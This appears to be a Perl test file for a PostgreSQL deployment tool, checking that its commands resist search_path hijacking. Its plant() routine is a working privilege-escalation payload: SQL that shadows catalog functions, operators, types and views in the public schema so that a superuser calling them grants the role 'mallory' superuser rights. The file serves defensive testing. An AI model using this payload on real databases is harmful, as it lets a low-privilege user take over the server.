# Whoever may create objects in a schema of the search_path plants all that our
# queries name, so that it makes them a superuser: operators, functions, types
# and relations, for whatever arguments. None of it is run.
#
# What our queries name is read from the server's log of them, so that no list
# has to be kept.

use strict;
use warnings;

use FindBin;
use lib "$FindBin::Bin/../lib";
use Deploy;
use Scratch qw(database role value);
use Test::More;

plan skip_all => 'run by test/harness/cluster only'
  unless $ENV{VERSIONING_CLUSTER};

my $log = "$ENV{VERSIONING_CLUSTER}/log";
my $mallory = role('mallory');

# What operands and arguments there may be
my @types = qw(bool "char" float8 int2 int4 int8 jsonb name oid regclass regrole
  text text[] timestamptz xid);

my ($project, $template) = hostile_project('learn');
my $start = -s $log;
run_all('as it should be');
my @statements = statements($start);
my $words = join ' ', map { lc } map { /\w+/g } @statements;
my $symbols = join ' ', '= ~~ !~~', map { m{[-+*/<>=~!@#%^&|`?]+}g } @statements;
like($words, qr/\b$_\b/, "the log has a query of $_")
  for qw(patches history pg_locks pg_try_advisory_lock pg_get_userbyid);
like($symbols, qr/->>/, 'and operators');

($project, $template) = hostile_project('hostile');
value($project->{database}, plant(), user => $mallory);
value('postgres', "CREATE DATABASE $template TEMPLATE $project->{database}");

for my $path ('public', 'public, pg_catalog')
{
	# The trap is one: a superuser who does not look out steps into it.
	$start = -s $log;
	value($project->{database}, "SET search_path = $path;
		SELECT oid = 'pg_class'::regclass FROM pg_class LIMIT 1");
	cmp_ok(scalar(planted($start)), '>', 0, "$path: what is planted can be run");
	ok(is_superuser(), "$path: and does what its author wants");

	value('postgres', "ALTER ROLE $mallory NOSUPERUSER;
		ALTER DATABASE $project->{database} SET search_path = $path");
	$start = -s $log;
	run_all($path);
	is_deeply([ planted($start) ], [], "$path: nothing that is planted was run");
	ok(!is_superuser(), "$path: nobody has become a superuser");
}
done_testing();


# Makes a project and its database, where the role may create what it likes.
# Returns it, and a name for a copy of the database, to rehearse in.
sub hostile_project
{
	my ($name) = @_;
	my $copy = database("${name}_template");
	my $made = project($name,
		'patches/a.sql' => patch('a', 'CREATE TABLE public.a ();'),
		'patches/b.sql' => patch('b', '', 'a'),
		'rollbacks/a.sql' => rollback_file('a', 'DROP TABLE public.a;'),
		'rollbacks/b.sql' => rollback_file('b'),
		'others/c.sql' => patch('c', 'SELECT pg_catalog.int4div(1, 0);'));

	value($made->{database}, "GRANT CREATE ON SCHEMA public TO $mallory");
	value('postgres', "DROP DATABASE $copy");
	value('postgres', "CREATE DATABASE $copy TEMPLATE $made->{database}")
	  if $name eq 'learn';
	return ($made, $copy);
}

# Runs all commands that connect to the database.
sub run_all
{
	my ($name) = @_;
	local $ENV{PGOPTIONS} = '-c log_statement=all';
	my @database = ('-d', $project->{database});

	exits_with($name, 0, 'check', @database);
	exits_with($name, 0, 'graph', @database);
	exits_with($name, 0, 'status');
	apply_after_another($name);
	exits_with($name, 0, qw(status --json --exit-code));
	exits_with($name, 3, qw(apply --patches others));
	exits_with($name, 0, qw(rollback --last 1));
	exits_with($name, 0, qw(mark --yes b));
	exits_with($name, 0, qw(accept --yes b));
	exits_with($name, 0, qw(unmark --yes b));
	exits_with($name, 0, 'rehearse', @database, '--template', $template);
	return;
}

# Passes if a command exits with this status.
sub exits_with
{
	my ($name, $expected, @arguments) = @_;
	my ($status, $output, $errors) = versioning($project, @arguments);

	return is($status, $expected, "$name: $arguments[0]")
	  || diag("$output\n$errors");
}

# Passes if apply waits for another deployer, and does its work then.
sub apply_after_another
{
	my ($name) = @_;
	my ($input, $answer) =
	  ("SELECT 'locked', pg_catalog.pg_advisory_lock(1986359923, 1);\n", '');
	my $other = IPC::Run::start(
		[ qw(psql -XAtq -d), $project->{database} ],
		'<', \$input, '>', \$answer);
	$other->pump until $answer =~ /locked/;

	my $run = start_versioning($project, 'apply');
	ok(wait_for(sub {
		$run->{harness}->pump_nb;
		return $run->{errors} =~ /waiting for another deployer: process/;
	}), "$name: apply waits");
	$other->finish;
	my ($status, undef, $errors) = finish_versioning($run);
	is($status, 0, "$name: apply") || diag $errors;
	return;
}

# The statements that the log has from there on, but for those of pg_dump.
sub statements
{
	my ($offset) = @_;
	my (%statements, $session);

	for (log_lines($offset))
	{
		if (/\[(\d+)\] /)
		{
			$session = $1;
			push @{ $statements{$session} }, $1
			  if /LOG:  (?:statement|execute [^:]*): (.*)/;
		}
		elsif ($statements{$session})
		{
			$statements{$session}[-1] .= $_;
		}
	}
	return map { @$_ }
	  grep { !grep { /^SET DATESTYLE = ISO/ } @$_ } values %statements;
}

# What was planted and, by the log from there on, run.
sub planted
{
	my ($offset) = @_;
	return map { /planted: (.*)/ ? $1 : () } log_lines($offset);
}

sub log_lines
{
	my ($offset) = @_;

	open my $handle, '<', $log or die "cannot read $log: $!\n";
	seek $handle, $offset, 0;
	return <$handle>;
}

sub is_superuser
{
	return value('postgres',
		"SELECT rolsuper FROM pg_roles WHERE rolname = '$mallory'") eq 't';
}

# The script that plants it all. What has the arguments of one in pg_catalog
# comes first if public does; what has others comes first if they fit better.
sub plant
{
	my $types = join ', ', map { "('$_')" } @types;

	return <<"SQL";
SET search_path = pg_catalog;
SET check_function_bodies = off;

CREATE FUNCTION public.caught(text) RETURNS bool LANGUAGE plpgsql
SET search_path = pg_catalog AS \$\$
BEGIN
    RAISE LOG 'planted: %', \$1;
    ALTER ROLE $mallory SUPERUSER;
    RETURN true;
EXCEPTION
    WHEN OTHERS THEN
        RETURN true;
END
\$\$;

CREATE FUNCTION public.plant(name text, arguments text, result text)
RETURNS void LANGUAGE plpgsql AS \$\$
BEGIN
    EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql '
                   'AS %L', name, arguments, result,
                   format('BEGIN PERFORM public.caught(%L); RETURN NULL; END',
                          format('%s(%s)', name, arguments)));
EXCEPTION
    WHEN duplicate_function OR feature_not_supported OR syntax_error
         OR invalid_function_definition THEN
        NULL;
END
\$\$;

DO \$\$
DECLARE
    words CONSTANT name[] := string_to_array('$words', ' ');
    symbols CONSTANT name[] := string_to_array('$symbols', ' ');
    a record;
    n int := 0;
BEGIN
    -- Functions
    FOR a IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS
                    exactly,
                    CASE WHEN t.typtype = 'p' THEN 'text'
                         ELSE format_type(prorettype, NULL) END AS result
               FROM pg_proc p JOIN pg_type t ON t.oid = prorettype
              WHERE pronamespace = 'pg_catalog'::regnamespace
                AND proname = ANY (words)
    LOOP
        PERFORM public.plant(a.proname, a.exactly, a.result);
        PERFORM public.plant(a.proname, '', a.result);
        PERFORM public.plant(a.proname, 'VARIADIC anyarray', a.result);
    END LOOP;
    FOR a IN SELECT p.proname, l.type AS one, r.type AS two, result
               FROM (SELECT DISTINCT ON (proname) proname,
                            CASE WHEN t.typtype = 'p' THEN 'text'
                                 ELSE format_type(prorettype, NULL) END AS result
                       FROM pg_proc JOIN pg_type t ON t.oid = prorettype
                      WHERE pronamespace = 'pg_catalog'::regnamespace
                        AND proname = ANY (words)) AS p,
                    (VALUES $types) AS l (type),
                    (VALUES ('no'), $types) AS r (type)
    LOOP
        PERFORM public.plant(a.proname, concat_ws(', ', a.one,
                                                  nullif(a.two, 'no')),
                             a.result);
    END LOOP;

    -- Operators
    FOR a IN SELECT DISTINCT ON (o.oprname, l.type, r.type)
                    oprname, l.type AS one, r.type AS two,
                    format_type(oprresult, NULL) AS result
               FROM pg_operator o, (VALUES $types) AS l (type),
                    (VALUES $types) AS r (type)
              WHERE oprname = ANY (symbols) AND oprnamespace =
                    'pg_catalog'::regnamespace
              ORDER BY o.oprname, l.type, r.type,
                       oprleft = to_regtype(l.type) AND
                       oprright = to_regtype(r.type) DESC, oprresult
    LOOP
        n := n + 1;
        PERFORM public.plant('operator ' || a.oprname || n,
                             a.one || ', ' || a.two, a.result);
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s,'
                       ' FUNCTION = public.%I)', a.oprname, a.one, a.two,
                       'operator ' || a.oprname || n);
    END LOOP;

    -- Types and relations
    FOR a IN SELECT typname FROM pg_type
              WHERE typnamespace = 'pg_catalog'::regnamespace
                AND typname = ANY (words) AND typtype = 'b'
    LOOP
        EXECUTE format('CREATE DOMAIN public.%I AS %1\$I CHECK '
                       '(public.caught(%L))', a.typname, 'type ' || a.typname);
    END LOOP;
    FOR a IN SELECT relname, string_agg(quote_ident(attname), ', ') AS columns
               FROM pg_class JOIN pg_attribute ON attrelid = pg_class.oid
              WHERE relnamespace = 'pg_catalog'::regnamespace
                AND relname = ANY (words) AND relkind IN ('r', 'v')
                AND attnum > 0 AND atttypid <> 'anyarray'::regtype
              GROUP BY relname
    LOOP
        EXECUTE format('CREATE VIEW public.%I AS SELECT %s FROM %1\$I '
                       'WHERE public.caught(%L)', a.relname, a.columns,
                       'relation ' || a.relname);
    END LOOP;
END
\$\$;
SQL
}
